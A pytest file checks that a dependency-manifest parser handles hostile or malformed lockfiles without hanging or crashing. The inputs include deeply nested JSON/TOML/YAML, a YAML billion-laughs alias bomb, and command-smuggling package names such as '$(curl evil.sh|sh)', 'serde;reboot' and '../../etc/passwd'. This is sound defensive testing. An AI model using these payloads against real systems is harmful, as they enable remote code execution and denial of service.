"""Hostile and odd dependency files: CRLF line endings, a UTF-8 BOM, a 10 MB line, JSON and
TOML nested past Python's recursion limit, YAML alias bombs, and package names no registry
allows. Each gives entries, skips or a one-line problem: never a traceback, never a hang."""

from __future__ import annotations

import json
import time

import pytest

from baton.agents.builtin.dependencies.manifests import changed_entries
from tests.agents.builtin.dependencies.support import Skipped, entries, problem, skips

BAD_NAME = "name with characters no registry allows"
BAD_VERSION = "version with characters no registry allows"
TEN_MB = 10 * 1024 * 1024


@pytest.mark.parametrize(
    ("path", "head"),
    [
        pytest.param("requirements.txt", "# pins\r\nDjango==4.2.7\r\ncelery==5.3.6\r\n", id="req"),
        pytest.param(
            "package.json",
            '{\r\n  "dependencies": {\r\n    "django": "4.2.7",\r\n'
            '    "celery": "5.3.6"\r\n  }\r\n}',
            id="package-json",
        ),
        pytest.param(
            "go.mod",
            "module m\r\n\r\nrequire (\r\n\tdjango v4.2.7\r\n\tcelery v5.3.6\r\n)\r\n",
            id="go-mod",
        ),
        pytest.param(
            "Gemfile.lock",
            "GEM\r\n  remote: https://rubygems.org/\r\n  specs:\r\n    django (4.2.7)\r\n"
            "    celery (5.3.6)\r\n",
            id="gemfile-lock",
        ),
        pytest.param(
            "poetry.lock",
            '# poetry\r\n[[package]]\r\nname = "django"\r\nversion = "4.2.7"\r\n\r\n'
            '[[package]]\r\nname = "celery"\r\nversion = "5.3.6"\r\n',
            id="poetry-lock",
        ),
    ],
)
def test_crlf_line_endings_read_as_lf(path: str, head: str) -> None:
    found = [(e.name, e.version, e.line) for e in changed_entries(path, head, None).entries]
    assert [(name, version) for name, version, _ in found] == [
        ("django", "4.2.7"),
        ("celery", "5.3.6"),
    ]
    assert all("\r" not in e.spec for e in changed_entries(path, head, None).entries)
    lines = [line for _, _, line in found]
    expected = {"poetry.lock": [3, 7], "go.mod": [4, 5], "Gemfile.lock": [4, 5]}
    assert lines == expected.get(path, [2, 3] if path == "requirements.txt" else [3, 4])


@pytest.mark.parametrize(
    ("path", "head"),
    [
        pytest.param("requirements.txt", "\ufeffDjango==4.2.7\n", id="requirements"),
        pytest.param("package.json", '\ufeff{"dependencies": {"django": "4.2.7"}}', id="json"),
        pytest.param(
            "pyproject.toml", '\ufeff[project]\ndependencies = ["django==4.2.7"]\n', id="toml"
        ),
        pytest.param(
            "pnpm-lock.yaml",
            "\ufefflockfileVersion: '9.0'\npackages:\n  django@4.2.7: {}\n",
            id="yaml",
        ),
    ],
)
def test_a_utf8_bom_is_not_part_of_the_first_line(path: str, head: str) -> None:
    [entry] = changed_entries(path, head, None).entries
    assert (entry.name, entry.version) == ("django", "4.2.7")


@pytest.mark.parametrize(
    ("path", "head"),
    [
        pytest.param("requirements.txt", "a" * TEN_MB + "\nDjango==4.2.7\n", id="requirements"),
        pytest.param(
            "package.json",
            json.dumps({"description": "x" * TEN_MB, "dependencies": {"django": "4.2.7"}}),
            id="minified-json",
        ),
        pytest.param("yarn.lock", "lo" * (TEN_MB // 2) + ':\n  version "1.0"\n', id="yarn-header"),
        pytest.param("go.mod", "module " + "m" * TEN_MB + "\nrequire django v4.2.7\n", id="go-mod"),
        pytest.param(
            "pnpm-lock.yaml",
            f"lockfileVersion: '9.0'\nnote: '{'y' * TEN_MB}'\npackages:\n  django@4.2.7: {{}}\n",
            id="yaml-scalar",
        ),
        pytest.param(
            "pyproject.toml",
            f'[project]\ndescription = "{"d" * TEN_MB}"\ndependencies = ["django==4.2.7"]\n',
            id="toml-string",
        ),
        pytest.param(
            "Gemfile.lock", "GEM\n  specs:\n    " + "g" * TEN_MB + " (1.0)\n", id="gemfile"
        ),
    ],
)
def test_a_ten_megabyte_line_neither_hangs_nor_raises(path: str, head: str) -> None:
    started = time.perf_counter()
    changed = changed_entries(path, head, None)
    assert time.perf_counter() - started < 5
    assert changed.problem is None
    assert all(len(s.name) <= 101 for s in changed.skipped)
    if "django" in head.lower():
        assert [e.name for e in changed.entries] == ["django"]


def test_a_ten_megabyte_requirement_is_skipped_with_its_length() -> None:
    changed = changed_entries("requirements.txt", "a" * TEN_MB + "\n", None)
    [(name, line, reason)] = skips(changed)
    assert (name, line) == ("a" * 40 + "…", 1)
    assert reason == f"a line of {TEN_MB} characters, too long for a requirement"


@pytest.mark.parametrize(
    ("path", "head", "expected"),
    [
        pytest.param(
            "package-lock.json",
            "[" * 200_000 + "]" * 200_000,
            "package-lock.json: not JSON baton reads (nested too deeply)",
            id="json-recursion",
        ),
        pytest.param(
            "package.json",
            '{"dependencies": ' + '{"a": ' * 100_000 + "1" + "}" * 100_001,
            "package.json: not JSON baton reads (nested too deeply)",
            id="json-nested-objects",
        ),
        pytest.param(
            "Cargo.lock",
            "x = " + "[" * 200_000 + "]" * 200_000,
            "Cargo.lock: not TOML baton reads (nested too deeply)",
            id="toml-recursion",
        ),
        pytest.param(
            "pyproject.toml",
            '[project]\ndependencies = ["django==4.2.7"]\n[project]\nname = "x"\n',
            "pyproject.toml: not TOML (line 3: Cannot declare ('project',) twice)",
            id="toml-duplicate-table",
        ),
    ],
)
def test_files_that_break_parsers_are_problems(path: str, head: str, expected: str) -> None:
    assert problem(path, head) == expected


def test_a_json_number_past_the_digit_limit_is_a_problem() -> None:
    head = '{"lockfileVersion": ' + "9" * 5000 + "}"
    reason = problem("package-lock.json", head)
    assert reason.startswith("package-lock.json: not JSON baton reads (Exceeds the limit (4300")


def test_deep_yaml_is_a_problem() -> None:
    head = "lockfileVersion: '9.0'\npackages: " + "[" * 100_000 + "]" * 100_000 + "\n"
    assert problem("pnpm-lock.yaml", head).startswith("pnpm-lock.yaml: not YAML")


def _billion_laughs(where: str) -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    merges = [
        f"m{i}: &m{i} {{<<: [" + ",".join(["*m" + str(i - 1)] * 9) + "]}" for i in range(1, 9)
    ]
    bomb = "\n".join([*lines, "m0: &m0 {x: 1}", *merges])
    body = "  lodash@4.17.20: *i\n" if where == "packages" else "  lodash@4.17.20: {}\n"
    return f"lockfileVersion: '9.0'\n{bomb}\npackages:\n{body}"


@pytest.mark.parametrize("where", ["beside", "packages"])
def test_a_yaml_alias_bomb_neither_hangs_nor_explodes(where: str) -> None:
    started = time.perf_counter()
    changed = changed_entries("pnpm-lock.yaml", _billion_laughs(where), None)
    assert time.perf_counter() - started < 2
    assert [(e.name, e.version, e.line) for e in changed.entries] == [("lodash", "4.17.20", 21)]


@pytest.mark.parametrize(
    ("path", "head", "expected"),
    [
        pytest.param(
            "package.json",
            json.dumps(
                {
                    "dependencies": {
                        "lo dash": "1.0.0",
                        "$(curl evil.sh|sh)": "1.0.0",
                        "../../etc/passwd": "1.0.0",
                        "evil\u0000name": "1.0.0",
                        "ok-name": "1.0.0 \u202e",
                        "@scope/fine": "^2.0.0",
                    }
                },
                indent=1,
            ),
            [
                ("lo dash", 3, BAD_NAME),
                ("$(curl evil.sh|sh)", 4, BAD_NAME),
                ("../../etc/passwd", 5, BAD_NAME),
                ("evil\\x00name", 6, BAD_NAME),
                ("ok-name", 7, "requirement with characters no registry allows"),
            ],
            id="npm",
        ),
        pytest.param(
            "go.mod",
            "module m\nrequire (\n\tgithub.com/a/../b v1.0.0\n\tgithub.com/a/b;rm v1.0.0\n"
            "\tgithub.com/ok/fine v1.0.0\n)\n",
            [("github.com/a/../b", 3, BAD_NAME), ("github.com/a/b;rm", 4, BAD_NAME)],
            id="go",
        ),
        pytest.param(
            "Cargo.lock",
            '[[package]]\nname = "serde;reboot"\nversion = "1.0.0"\n'
            'source = "registry+https://github.com/rust-lang/crates.io-index"\n\n'
            '[[package]]\nname = "serde"\nversion = "1.0.0\\u0007"\n'
            'source = "registry+https://github.com/rust-lang/crates.io-index"\n\n'
            '[[package]]\nname = "tokio"\nversion = "1.36.0"\n'
            'source = "registry+https://github.com/rust-lang/crates.io-index"\n',
            [("serde;reboot", 2, BAD_NAME), ("serde", 7, BAD_VERSION)],
            id="cargo",
        ),
        pytest.param(
            "Gemfile.lock",
            "GEM\n  specs:\n    rack|id (1.0)\n    ok (1.0)\n",
            [("rack|id", 3, BAD_NAME)],
            id="gem",
        ),
        pytest.param(
            "poetry.lock",
            '[[package]]\nname = "py yaml"\nversion = "5.3"\n\n'
            '[[package]]\nname = "PyYAML"\nversion = "5.3"\n',
            [("py yaml", 2, BAD_NAME)],
            id="pypi",
        ),
    ],
)
def test_odd_names_are_skipped_not_raised(path: str, head: str, expected: list[Skipped]) -> None:
    changed = changed_entries(path, head, None)
    assert changed.problem is None
    assert skips(changed) == expected
    assert len(entries(changed)) == 1
